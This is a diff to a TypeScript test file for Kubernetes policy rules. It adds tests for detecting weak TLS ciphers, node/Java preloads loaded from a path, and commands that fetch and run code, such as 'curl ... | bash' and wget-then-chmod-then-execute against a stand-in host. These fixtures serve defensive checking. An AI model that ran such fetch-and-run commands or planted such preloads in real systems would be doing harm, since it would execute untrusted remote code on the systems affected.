@@ -1,7 +1,8 @@
-import { cpuCores, debuggerFlag, imageTag, internalAddress, memoryBytes, nginxBytes, pinnedToOneZone, plainRedis, secretFileModes, tlsWeakening, weakCiphers } from "../../policies/rules/kubernetes";
+import { cpuCores, debuggerFlag, fetchesAndRuns, preloadFromPath, imageTag, internalAddress, memoryBytes, nginxBytes, pinnedToOneZone, plainRedis, secretFileModes, tlsWeakening, weakCiphers } from "../../policies/rules/kubernetes";
 import { effectCases } from "./fixtures/effects";
 import { kubernetesCases } from "./fixtures/kubernetes";
 import { runCases } from "./fixtures/run";
+import { chainCases } from "./fixtures/nginx-effects";
 
 runCases(kubernetesCases);
 // The Kubernetes chain rules whose fixtures live with the other cross-resource cases.
@@ -61,8 +62,12 @@ describe("secretFileModes", () => {
 describe("weakCiphers", () => {
   it.each([
     ["ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-GCM-SHA384", []],
-    ["HIGH:!aNULL:!MD5", []],
-    ["HIGH:RC4:3DES", ["RC4", "3DES"]],
+    ["HIGH:!aNULL:!MD5", ["HIGH"]],
+    ["HIGH:!aNULL:!kRSA:!MD5", []],
+    ["AES256:SHA256:!ADH", ["AES256", "SHA256"]],
+    ["HIGH:RC4:3DES", ["HIGH", "RC4", "3DES"]],
+    ["DEFAULT@SECLEVEL=0", ["DEFAULT", "@SECLEVEL=0"]],
+    ["ECDHE-RSA-AES128-GCM-SHA256@SECLEVEL=1", ["@SECLEVEL=1"]],
     ["ALL:!aNULL", ["ALL"]],
     ["AES128-GCM-SHA256:DHE-RSA-AES128-GCM-SHA256", ["AES128-GCM-SHA256"]],
     ["ECDHE-RSA-DES-CBC3-SHA:+MEDIUM", ["ECDHE-RSA-DES-CBC3-SHA", "MEDIUM"]],
@@ -124,5 +129,34 @@ describe("pinnedToOneZone", () => {
     expect(pinnedToOneZone(affinity(zoneTerm("a"), zoneTerm("b")) as never)).toBeUndefined();
     expect(pinnedToOneZone(affinity(zoneTerm("a"), { matchExpressions: [{ key: "kubernetes.io/arch", operator: "In", values: ["arm64"] }] }) as never)).toBeUndefined();
     expect(pinnedToOneZone({ nodeSelector: { "kubernetes.io/arch": "arm64" } } as never)).toBeUndefined();
+  });
+});
+
+// Round 8: preloads from a path (k8s-env-tls-verified), fetched code and hooks to other hosts.
+runCases(chainCases.filter((c) => ["k8s-no-fetched-code-or-remote-hooks", "k8s-env-tls-verified"].includes(c.policy)));
+
+describe("preloadFromPath", () => {
+  it.each([
+    ["--require /tmp/hook.js", "--require /tmp/hook.js"],
+    ["-r ./hook.js", "-r ./hook.js"],
+    ["--import=file:///tmp/x.mjs", "--import=file:///tmp/x.mjs"],
+    ["--max-old-space-size=384 --experimental-loader https://x.example/l.mjs", "--experimental-loader https://x.example/l.mjs"],
+    ["-javaagent:/tmp/agent.jar", "-javaagent:/tmp/agent.jar"],
+    ["--require @opentelemetry/auto-instrumentations-node/register", undefined],
+    ["--max-old-space-size=384", undefined],
+  ])("%s → %p", (text, found) => {
+    expect(preloadFromPath(text)).toBe(found);
+  });
+});
+
+describe("fetchesAndRuns", () => {
+  it.each([
+    ["curl -fsSL https://x.example/i.sh | bash", "https://x.example/i.sh"],
+    ["wget -O /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a", "http://x.example/a"],
+    ['sh -c "$(curl -fsSL https://x.example/i.sh)"', "https://x.example/i.sh"],
+    ["curl -fsS http://127.0.0.1:8080/livez", undefined],
+    ["wget -qO- https://x.example/data.json > /tmp/d.json", undefined],
+  ])("%s → %p", (text, found) => {
+    expect(fetchesAndRuns(text)).toBe(found);
   });
 });
